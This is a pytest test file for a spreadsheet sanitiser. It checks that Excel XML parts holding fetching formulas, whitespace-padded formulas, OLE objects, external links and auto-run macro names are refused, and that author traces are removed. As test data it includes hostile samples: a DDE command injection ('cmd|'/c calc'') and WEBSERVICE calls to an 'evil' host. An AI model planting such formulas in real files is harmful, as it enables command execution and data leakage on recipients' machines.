"""The XML of Excel: formulas that fetch are found in every place, and behind every padding."""

import pytest

from portal.cleaning import excel, xml
from portal.cleaning.report import Report


def cleaned(body: str) -> tuple[str, Report]:
    root, report = xml.parse(f"<sheet>{body}</sheet>".encode()), Report()
    excel.clean_part(root, report)
    return xml.serialize(root).decode().partition("?>\n")[2], report


@pytest.mark.parametrize("element", excel.FORMULAS)
@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://evil")', '_xlfn.WEBSERVICE ("http://evil")', "1+rtd(\"a\")", "IMAGE(A1)",
        "REGISTER.ID(A1)", "CUBEVALUE(A1)", "Excel.Sheet|x!A1", "cmd|'/c calc'!A1", 'CALL("a")',
    ],
)  # fmt: skip
def test_a_formula_that_fetches_is_refused_in_every_place(element, formula):
    assert cleaned(f"<{element}>{formula}</{element}>")[1].refused == {"external_data"}


@pytest.mark.parametrize("formula", ["SUM(A1:B2)", "IF(A1|B1,1,2)", "MYIMAGE(A1)", "Call!A1", "RTDS", "Sheet!A1", ""])
def test_a_formula_that_counts_is_taken(formula):
    text, report = cleaned(f"<f>{formula}</f>")

    assert not report.refused and formula in text


def test_padding_hides_no_formula():
    padded = f'<f>1{" " * excel.LONGEST_FORMULA}+WEBSERVICE("http://evil")</f>'

    assert cleaned(padded)[1].refused == {"damaged"}
    assert cleaned("<f>" + "1" * excel.LONGEST_FORMULA + "</f>")[1].refused == set()


@pytest.mark.parametrize(
    ("given", "reasons"),
    [
        ('<oleObjects><oleObject r="1"/></oleObjects>', {"embedded"}),
        ("<controls><control/></controls>", {"controls"}),
        ("<controls/>", set()),
        ("<externalReferences><externalReference/></externalReferences>", {"external_data"}),
        ('<definedName name="_xlnm.Auto_Open">A1</definedName>', {"macros"}),
        ('<definedName name="AUTO_OPEN2">A1</definedName>', {"macros"}),
        ('<definedName name="a" xlm="1">A1</definedName>', {"macros"}),
        ('<definedName name="_xlnm.Print_Area">A1</definedName>', set()),
    ],
)
def test_what_runs_or_is_linked_is_refused(given, reasons):
    assert cleaned(given)[1].refused == reasons


@pytest.mark.parametrize("name", excel.TRACES)
def test_what_tells_of_people_and_computers_goes(name):
    assert cleaned(f'<{name} userName="Jane"><x/></{name}><row/>')[0] == "<sheet><row/></sheet>"
